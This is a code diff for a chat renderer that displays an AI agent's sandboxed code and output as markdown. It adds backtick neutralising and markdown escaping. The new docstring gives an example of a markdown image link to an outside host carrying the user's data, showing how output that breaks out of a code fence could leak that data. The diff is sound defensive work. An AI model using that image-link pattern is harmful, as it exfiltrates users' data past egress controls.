@@ -5,6 +5,13 @@ reasoning and to the content, which the streaming route sends at once as deltas 
 Code is shown as a fenced ``python`` block and what it printed as a fenced ``text`` block; each is trimmed
 (:data:`CODE_CHARS`, :data:`OUTPUT_CHARS` a step), and the whole reasoning stops at :data:`REASONING_CHARS`.
 
+Chat apps render this text as markdown, images from any host included, so what sandbox code wrote must
+stay text there: a line of three backticks in an output would close its fence and let the lines after it
+be markdown (``![x](https://host/?data=...)``, which the app fetches: the user's data out, past every
+egress rule). Inside a fence no three backticks ever follow each other (:meth:`ChatRender._fenced` puts a
+ZERO WIDTH SPACE in the run, across chunks); the notes outside fences, whose text may come from code (a
+part's test error, a tool's reason), have markdown's active characters escaped (:func:`plain`).
+
 Images from ``display`` are saved in the user's folder, ``.thinkbox/images/RUN/N-TOKEN.EXT`` (they count
 against the user's quota; the files API lists and deletes them), and linked as markdown images to
 ``/v1/images/RUN/N-TOKEN.EXT``. That route needs no key, because a chat app's browser fetches the image
@@ -55,6 +62,14 @@ OUTPUT_CHARS = 2_000
 REASONING_CHARS = 60_000
 IMAGE_TYPES = {"image/png": "png", "image/jpeg": "jpeg", "image/gif": "gif", "image/webp": "webp"}
 IMAGE_DIR = ".thinkbox/images"
+_ZWSP = "\u200b"
+_MARKUP = str.maketrans({c: "\\" + c for c in "\\`[]<>"})
+
+
+def plain(text: str) -> str:
+    """``text`` for markdown outside a fence: backslash, backticks, brackets and angle brackets escaped, so it
+    makes no link, image, HTML, code span or fence (the characters show as they are)."""
+    return text.translate(_MARKUP)
 
 
 def image_name(keys: Keyring, run_id: str, number: int, ext: str, data: bytes) -> str:
@@ -105,6 +120,8 @@ class ChatRender:
     _thought_seen: bool = False
     _fence_open: bool = False
     _output_chars: int = 0
+    _ticks: int = 0
+    """Backticks in a row at the end of what went inside the open fence (see :meth:`_fenced`)."""
 
     @property
     def finished(self) -> bool:
@@ -145,11 +162,13 @@ class ChatRender:
             return event.text, ""
         if isinstance(event, ParseFailed):
             self._reply_chars += len(event.raw)
-            return f"\n(the reply could not be used: {trim(event.error, 300)}; asking again)\n", ""
+            return f"\n(the reply could not be used: {plain(trim(event.error, 300))}; asking again)\n", ""
         if isinstance(event, ActionParsed):
             self._reply_chars += len(event.thought) + len(event.code) + len(event.final_answer)
             thought = "" if self._thought_seen else event.thought
-            code = f"\n```python\n{trim(event.code, CODE_CHARS).rstrip()}\n```\n" if event.code else ""
+            self._ticks = 0
+            code = f"\n```python\n{self._fenced(trim(event.code, CODE_CHARS).rstrip())}\n```\n"
+            code = code if event.code else ""
             return thought + code, ""
         if isinstance(event, OutputChunk):
             return self._output(event.text), ""
@@ -158,14 +177,14 @@ class ChatRender:
         if isinstance(event, ExecutionFinished):
             return self._finished(event), ""
         if isinstance(event, CodeRejected):
-            return f"\n(not run: {trim('; '.join(event.problems), 500)})\n", ""
+            return f"\n(not run: {plain(trim('; '.join(event.problems), 500))})\n", ""
         if isinstance(event, Notice) and event.kind in ("docs", "repeat"):
-            return f"\n({trim(event.message, 500)})\n", ""
+            return f"\n({plain(trim(event.message, 500))})\n", ""
         if isinstance(event, RunResumed):
-            return f"\n(the server restarted; the run went on: {event.message or 'resumed'})\n", ""
+            return f"\n(the server restarted; the run went on: {plain(event.message or 'resumed')})\n", ""
         note = describe(event)
         if note is not None:
-            return f"\n({trim(note, 500)})\n", ""
+            return f"\n({plain(trim(note, 500))})\n", ""
         return self._end(event)
 
     def _output(self, text: str) -> str:
@@ -174,8 +193,27 @@ class ChatRender:
             return ""
         self._output_chars += len(text)
         opener = "" if self._fence_open else "```text\n"
-        self._fence_open = True
-        return opener + (text if len(text) <= room else text[:room] + "\n... (output trimmed)\n")
+        if not self._fence_open:
+            self._fence_open, self._ticks = True, 0
+        return opener + self._fenced(text if len(text) <= room else text[:room] + "\n... (output trimmed)\n")
+
+    def _fenced(self, text: str) -> str:
+        """``text`` for inside the open fence: a ZERO WIDTH SPACE before every third backtick in a row (the
+        row counted across calls, as chunks split it), so no line can close the fence."""
+        if "`" not in text:
+            self._ticks = 0 if text else self._ticks
+            return text
+        out = []
+        for char in text:
+            if char != "`":
+                self._ticks = 0
+            elif self._ticks == 2:
+                out.append(_ZWSP)
+                self._ticks = 1
+            else:
+                self._ticks += 1
+            out.append(char)
+        return "".join(out)
 
     def _close_fence(self) -> str:
         if not self._fence_open:
